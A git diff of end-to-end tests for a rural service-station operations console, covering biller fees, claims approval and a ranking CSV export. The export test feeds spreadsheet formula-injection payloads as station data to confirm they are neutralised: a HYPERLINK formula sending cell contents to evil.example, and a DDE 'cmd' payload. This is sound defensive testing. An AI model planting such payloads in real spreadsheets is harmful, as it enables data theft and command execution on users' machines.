@@ -1,4 +1,6 @@
 import { randomUUID } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import Papa from 'papaparse';
 import type { Page } from 'playwright-core';
 import { expect, test } from 'vitest';
 import { issueToken } from '#scripts/local/tokens.ts';
@@ -19,7 +21,7 @@ function call(role: 'ops' | 'partner', stationId = demo.station) {
       headers: {
         authorization: `Bearer ${token}`,
         ...(body !== undefined ? { 'content-type': 'application/json' } : {}),
-        ...(method === 'POST' ? { 'idempotency-key': randomUUID() } : {}),
+        ...(['POST', 'PATCH', 'DELETE'].includes(method) ? { 'idempotency-key': randomUUID() } : {}),
       },
       ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
     });
@@ -312,12 +314,19 @@ test('buying prices: a new produce item with two grades; a biller’s commission
   await phone.getByRole('heading', { name: `缴费单位 ${biller}` }).waitFor();
   expect(await phone.getByLabel('服务站佣金（元/笔）').inputValue()).toBe('0.50');
   await phone.getByLabel('服务站佣金（元/笔）').fill('0.80');
+  expect(await phone.getByLabel('每笔最低金额（元）').inputValue()).toBe('');
+  await phone.getByLabel('每笔最低金额（元）').fill('5');
   await noSeriousViolations(phone);
   await phone.getByRole('button', { name: '保存缴费单位' }).click();
   await phone.getByText(`${biller} 已保存。`).waitFor();
   await phone.screenshot({ path: 'docs/screenshots/ops-billers-360.png', fullPage: true });
   const billers = await ops<{ items: { billerCode: string }[] }>('GET', '/v1/billers?limit=100');
-  expect(billers.items.find((b) => b.billerCode === biller)).toMatchObject({ name: '县自来水公司', customerFeeFen: 100, stationCommissionFen: 80 });
+  expect(billers.items.find((b) => b.billerCode === biller)).toMatchObject({
+    name: '县自来水公司',
+    customerFeeFen: 100,
+    stationCommissionFen: 80,
+    minAmountFen: 500,
+  });
 });
 
 test('the month: ranking, a station’s statement and chart; every screen at 360 px in both languages', async () => {
@@ -443,4 +452,92 @@ test('the console reloaded without a network opens from its own service worker, 
   await expect.poll(pendingCount).toBe(before - 1);
   expect(await ops('GET', `/v1/remittances/${remittance.remittanceId}`)).toMatchObject({ status: 'CONFIRMED' });
   expect(await page.getByText(/没有网络：/).count()).toBe(0);
+test('the ranking export: a station named like a formula, and a county changed to one, are text in the spreadsheet, never live formulas', async () => {
+  const name = `=HYPERLINK("http://evil.example/?x="&A1,"点击领奖") ${Date.now().toString(36)}`;
+  const station = await ops('POST', '/v1/stations', stationInput(name));
+  expect(station.httpStatus).toBe(201);
+  const county = "@SUM(1+1)*cmd|' /C calc'!A0";
+  const moved = await ops('PATCH', `/v1/stations/${station.stationId}`, { county });
+  expect(moved).toMatchObject({ httpStatus: 200, county });
+  // A sale handed over this month, so the station is in this month's ranking.
+  const seller = call('partner', station.stationId);
+  const buyer = await seller('POST', `/v1/stations/${station.stationId}/villagers`, {
+    name: '周大妈',
+    villageId: station.villages[0].villageId,
+    consent: true,
+  });
+  const sale = await seller('POST', `/v1/stations/${station.stationId}/orders`, {
+    villagerId: buyer.villagerId,
+    lines: [{ sku: demo.rice, qty: 1 }],
+    paymentMode: 'CASH_ON_ORDER',
+    fulfilment: 'STATION_PICKUP',
+    cashReceivedFen: 8_990,
+  });
+  await seller('POST', `/v1/orders/${sale.orderId}/arrive`);
+  expect((await seller('POST', `/v1/orders/${sale.orderId}/pickup`, { deliveryCode: sale.deliveryCode })).httpStatus).toBe(200);
+
+  const page = await signIn(1280);
+  await page.getByRole('link', { name: '本月' }).click();
+  await page.getByRole('region', { name: '服务站销售排名' }).getByText(name).waitFor();
+  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /导出/ }).click()]);
+  const text = readFileSync((await download.path())!, 'utf8').replace(/^\uFEFF/, '');
+  const rows = Papa.parse<string[]>(text.trim()).data;
+  const row = rows.find((r) => r[1] === station.stationId)!;
+  expect(row).toBeDefined();
+  // Shown as typed, behind a quote that makes a spreadsheet read the cell as text.
+  expect(row[2]).toBe(`'${name}`);
+  expect(row[3]).toBe(`'${county}`);
+  // Nothing in the file starts a formula (= + - @, or a tab or carriage return before one); amounts stay numbers.
+  for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
+  expect(Number(row[4])).toBeGreaterThan(0);
+});
+
+test('claims awaiting approval: an operator approves a return and rejects an exchange, each with a reason typed', async () => {
+  /** An air conditioner handed over at the demo station, claimed, and the remedy asked for by the partner. */
+  const asked = async (problem: string, remedy: 'RETURN' | 'EXCHANGE') => {
+    const order = await partner('POST', `/v1/stations/${demo.station}/orders`, {
+      villagerId: demo.villager,
+      lines: [{ sku: demo.sku, qty: 1 }],
+      paymentMode: 'CASH_ON_ORDER',
+      fulfilment: 'STATION_PICKUP',
+      cashReceivedFen: 390_000,
+    });
+    await partner('POST', `/v1/orders/${order.orderId}/arrive`);
+    await partner('POST', `/v1/orders/${order.orderId}/pickup`, { deliveryCode: order.deliveryCode });
+    const claim = await partner('POST', `/v1/orders/${order.orderId}/claims`, { sku: demo.sku, qty: 1, problem });
+    const waiting = await partner('POST', `/v1/claims/${claim.claimId}/resolve`, { remedy });
+    expect(waiting).toMatchObject({ httpStatus: 200, status: 'AWAITING_APPROVAL' });
+    return claim.claimId as string;
+  };
+  const toReturn = await asked(`压缩机不转 ${Date.now().toString(36)}`, 'RETURN');
+  const toExchange = await asked(`面板有裂缝 ${Date.now().toString(36)}`, 'EXCHANGE');
+  const cashBefore = await partner('GET', `/v1/stations/${demo.station}/cash`);
+
+  const page = await signIn(1280);
+  const section = page.getByRole('region', { name: '等运营确认的退货和换新' });
+  const returnItem = section.locator('div.item', { hasText: '压缩机不转' });
+  await returnItem.getByText(/店主申请退货退款/).waitFor();
+  await noSeriousViolations(page);
+  await page.screenshot({ path: 'docs/screenshots/ops-claims-awaiting-1280.png', fullPage: false });
+  await returnItem.getByLabel('批准说明（可不填）').fill('看了照片，压缩机确实坏了');
+  await returnItem.getByRole('button', { name: '确认有质量问题，批准' }).click();
+  await returnItem.getByText('已批准退货：服务站从钱箱退给村民 ¥3,900.00。').waitFor();
+  expect(await ops('GET', `/v1/claims/${toReturn}`)).toMatchObject({
+    status: 'RETURNED',
+    refundFen: 390_000,
+    approval: { reason: '看了照片，压缩机确实坏了' },
+  });
+  expect((await partner('GET', `/v1/stations/${demo.station}/cash`)).drawerFen).toBe(cashBefore.drawerFen - 390_000);
+
+  const exchangeItem = section.locator('div.item', { hasText: '面板有裂缝' });
+  // No reason, no rejection: the field is required.
+  expect(await exchangeItem.getByLabel('不批准的理由').getAttribute('required')).not.toBeNull();
+  await exchangeItem.getByLabel('不批准的理由').fill('裂缝是搬运时碰的');
+  await exchangeItem.getByRole('button', { name: '不批准' }).click();
+  await exchangeItem.getByText('已退回：这条售后回到待处理，村民还可以选其他办法。').waitFor();
+  expect(await ops('GET', `/v1/claims/${toExchange}`)).toMatchObject({
+    status: 'OPEN',
+    allowedRemedies: ['RETURN', 'REPAIR'],
+    rejections: [{ remedy: 'EXCHANGE', reason: '裂缝是搬运时碰的' }],
+  });
 });
